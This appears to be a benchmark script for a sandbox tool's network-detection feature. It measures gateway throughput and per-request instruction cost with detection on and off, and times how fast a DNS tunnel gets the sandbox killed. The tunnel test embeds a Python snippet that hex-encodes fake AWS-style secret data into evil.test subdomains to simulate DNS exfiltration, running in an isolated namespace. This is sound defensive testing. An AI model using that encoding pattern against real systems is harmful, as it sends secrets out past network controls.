#!/usr/bin/env bash
# What detection costs, and how fast it stops a DNS tunnel (docs/benchmarks.md, "Detection").
#
#   1. Gateway requests/s with detection on vs off: cordon-gateway's examples/gateway.rs twice
#      (`--detect on`: every network rule at its default thresholds with response "log" and the
#      byte thresholds out of reach, so the rules count every event but never change the data
#      path; four honey tokens scanned for in every request; `--detect off`), --sink noop, one
#      worker, against examples/origin.rs on loopback;
#      wrk -c C for D seconds, the two gateways interleaved, R rounds, medians.
#   2. Instructions per request, on vs off, under valgrind --tool=callgrind (immune to the
#      machine's load): each gateway serves N1 and then N2 keep-alive requests from a small
#      client; per-request cost = (Ir(N2) - Ir(N1)) / (N2 - N1).
#   3. Time from the first DNS-tunnel query to the sandbox's death, at the default thresholds:
#      `cordon run` (release) of a script that writes CLOCK_MONOTONIC to a FIFO on a writable
#      extra mount, then resolves <hex>.<i>.evil.test names as fast as it can; the FIFO reaches
#      EOF exactly when the last sandbox process holding it is dead. Runs inside a network
#      namespace made here with only `lo` (the gateway answers these names NXDOMAIN itself and
#      asks no upstream). Median of T runs. Needs root.
#
# Usage: bench/detect.sh [--duration D] [--connections C] [--rounds R] [--calls "N1 N2"]
#                        [--tunnel-runs T] [--skip-wrk] [--skip-callgrind] [--skip-tunnel]
set -euo pipefail
cd "$(dirname "$0")/.."
duration=5
connections=8
rounds=7
calls="2000 6000"
tunnel_runs=9
skip_wrk=0 skip_cg=0 skip_tunnel=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --duration) duration="$2"; shift 2 ;;
    --connections) connections="$2"; shift 2 ;;
    --rounds) rounds="$2"; shift 2 ;;
    --calls) calls="$2"; shift 2 ;;
    --tunnel-runs) tunnel_runs="$2"; shift 2 ;;
    --skip-wrk) skip_wrk=1; shift ;;
    --skip-callgrind) skip_cg=1; shift ;;
    --skip-tunnel) skip_tunnel=1; shift ;;
    *) sed -n '2,22p' "$0" >&2; exit 2 ;;
  esac
done

target_dir="${CARGO_TARGET_DIR:-$PWD/target}"
cargo build --release -q -p cordon --bin cordon
cargo build --release -q -p cordon-gateway --example origin --example gateway
gw="$target_dir/release/examples/gateway"
origin_bin="$target_dir/release/examples/origin"
cordon="$target_dir/release/cordon"
lua="$PWD/bench/proxy.lua"

work=$(mktemp -d /tmp/cordon-bench-detect.XXXXXX)
chmod 755 "$work"
pids=()
stop_all() {
  local p
  for p in "${pids[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
  for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
  pids=()
}
trap 'stop_all; rm -rf "$work"' EXIT
free_port() {
  python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}
wait_port() {
  local i
  for i in $(seq 1 400); do
    (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null && return 0
    sleep 0.05
  done
  echo "nothing listens on 127.0.0.1:$1" >&2
  exit 1
}
median() { sort -g | awk '{ a[NR] = $1 } END { print (NR % 2) ? a[(NR + 1) / 2] : (a[NR / 2] + a[NR / 2 + 1]) / 2 }'; }

echo "load before: $(cut -d' ' -f1-3 /proc/loadavg)" >&2
oport=$(free_port)
"$origin_bin" "127.0.0.1:$oport" 1 >"$work/origin.log" 2>&1 &
pids+=($!)
wait_port "$oport"
origin="127.0.0.1:$oport"

gw_pid=""
start_gw() { # MODE PORT [wrapper...]; sets gw_pid (a child of this shell, so `wait` works)
  local mode=$1 port=$2
  shift 2
  "$@" "$gw" --listen "127.0.0.1:$port" --allow-private "127.0.0.1/32:$oport" --sink noop \
    --runtime current --detect "$mode" >"$work/gw-$mode.log" 2>&1 &
  gw_pid=$!
}

if [[ $skip_wrk == 0 ]]; then
  declare -A port pid
  for m in on off; do
    port[$m]=$(free_port)
    start_gw "$m" "${port[$m]}"
    pid[$m]=$gw_pid
    pids+=("${pid[$m]}")
    wait_port "${port[$m]}"
  done
  : >"$work/wrk.txt"
  for r in $(seq 1 "$rounds"); do
    for m in on off; do
      out=$(BENCH_TARGET="$origin" wrk -t1 -c"$connections" -d"${duration}s" --timeout 5s \
        -s "$lua" "http://127.0.0.1:${port[$m]}/" 2>&1)
      read -r _ n us _ _ err non2xx <<<"$(grep '^RESULT ' <<<"$out")"
      [[ "$err" == 0 && "$non2xx" == 0 ]] || { echo "wrk $m: errors $err, non-2xx $non2xx" >&2; exit 1; }
      rps=$(awk -v n="$n" -v us="$us" 'BEGIN { printf "%.0f", n / (us / 1e6) }')
      echo "$m $r $rps" >>"$work/wrk.txt"
      echo "round $r detect $m: $rps req/s (load $(cut -d' ' -f1 /proc/loadavg))" >&2
    done
  done
  stop_all
  on=$(awk '$1 == "on" { print $3 }' "$work/wrk.txt" | median)
  off=$(awk '$1 == "off" { print $3 }' "$work/wrk.txt" | median)
  echo "WRK detect on: median $on req/s; off: median $off req/s; on/off = $(awk -v a="$on" -v b="$off" 'BEGIN { printf "%.3f", a / b }') ($rounds rounds x ${duration}s, -c $connections)"
  "$origin_bin" "127.0.0.1:$oport" 1 >"$work/origin.log" 2>&1 &
  pids+=($!)
  wait_port "$oport"
fi

if [[ $skip_cg == 0 ]]; then
  client="$work/client.py"
  cat >"$client" <<'EOF'
import http.client, sys
port, origin, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
c = http.client.HTTPConnection("127.0.0.1", port)
for _ in range(n):
    c.request("GET", f"http://{origin}/", headers={"Host": origin})
    r = c.getresponse()
    r.read()
    assert r.status == 200, r.status
EOF
  for m in on off; do
    for n in $calls; do
      p=$(free_port)
      start_gw "$m" "$p" valgrind --tool=callgrind --callgrind-out-file="$work/cg-$m-$n.out"
      g=$gw_pid
      pids+=("$g")
      wait_port "$p"
      python3 "$client" "$p" "$origin" "$n"
      kill -INT "$g"
      wait "$g" || true
      # awk reads to the end: an early exit would end callgrind_annotate with SIGPIPE, which
      # pipefail turns into the script's failure.
      ir=$(callgrind_annotate "$work/cg-$m-$n.out" 2>/dev/null | awk '/PROGRAM TOTALS/ && !done { gsub(",", "", $1); print $1; done = 1 }')
      echo "$m $n $ir" >>"$work/cg.txt"
      echo "callgrind detect $m, $n requests: $ir instructions" >&2
    done
  done
  read -r n1 n2 <<<"$calls"
  per() { awk -v m="$1" -v n1="$n1" -v n2="$n2" '$1 == m && $2 == n1 { a = $3 } $1 == m && $2 == n2 { b = $3 } END { printf "%.0f", (b - a) / (n2 - n1) }' "$work/cg.txt"; }
  pon=$(per on) poff=$(per off)
  echo "CALLGRIND instructions per request: detect on $pon, off $poff; on/off = $(awk -v a="$pon" -v b="$poff" 'BEGIN { printf "%.4f", a / b }') (+$((pon - poff)) per request)"
fi

if [[ $skip_tunnel == 0 ]]; then
  [[ $(id -u) == 0 ]] || { echo "the tunnel part needs root (a network namespace and a FIFO mount)" >&2; exit 1; }
  mnt="$work/mnt"
  mkdir -m 777 "$mnt"
  cat >"$work/policy.toml" <<EOF
[network]
allow = ["example.invalid:443"]

[[sandbox.mounts]]
host = "$mnt"
path = "/bench"
writable = true
EOF
  cat >"$mnt/tunnel.py" <<'EOF'
import socket, time
out = open("/bench/fifo", "w")
data = b"AKIA-secret-material-" * 500
out.write(f"T0 {time.clock_gettime(time.CLOCK_MONOTONIC)}\n")
out.flush()
for i in range(0, len(data), 10):
    try:
        socket.getaddrinfo(f"{data[i:i+10].hex()}.{i}.evil.test", 80)
    except OSError:
        pass
print("survived")
EOF
  cat >"$work/harness.py" <<'EOF'
import os, subprocess, sys, threading, time
cordon, work, runs = sys.argv[1], sys.argv[2], int(sys.argv[3])
fifo = f"{work}/mnt/fifo"
for run in range(runs):
    if os.path.exists(fifo):
        os.unlink(fifo)
    os.mkfifo(fifo, 0o666)
    os.chmod(fifo, 0o666)
    got = {}
    def read():
        with open(fifo) as f:
            for line in f:
                if line.startswith("T0 "):
                    got["t0"] = float(line.split()[1])
        got["eof"] = time.clock_gettime(time.CLOCK_MONOTONIC)
    t = threading.Thread(target=read)
    t.start()
    p = subprocess.run([cordon, "run", "--policy", f"{work}/policy.toml", "--audit", f"{work}/audit.db",
                        "--upstream-dns", "127.0.0.1:53", "--timeout", "30s", "--json", "--",
                        "/usr/bin/python3", "/bench/tunnel.py"], capture_output=True, text=True, timeout=60)
    if "eof" not in got:
        # The script never opened the FIFO: release the reader.
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)) if t.is_alive() else None
    t.join(timeout=10)
    reason = [l for l in p.stderr.splitlines() if "terminated:" in l]
    assert p.returncode == 137 and reason and "t0" in got, (p.returncode, p.stderr)
    print(f"TUNNEL {run} {(got['eof'] - got['t0']) * 1000:.1f} ms | {reason[0]}", flush=True)
EOF
  unshare --net --mount -- sh -c "ip link set lo up && python3 '$work/harness.py' '$cordon' '$work' '$tunnel_runs'" |
    tee "$work/tunnel.txt"
  ms=$(awk '/^TUNNEL/ { print $3 }' "$work/tunnel.txt" | median)
  echo "TUNNEL first query to sandbox death: median $ms ms over $tunnel_runs runs (default thresholds)"
fi
echo "load after: $(cut -d' ' -f1-3 /proc/loadavg)" >&2
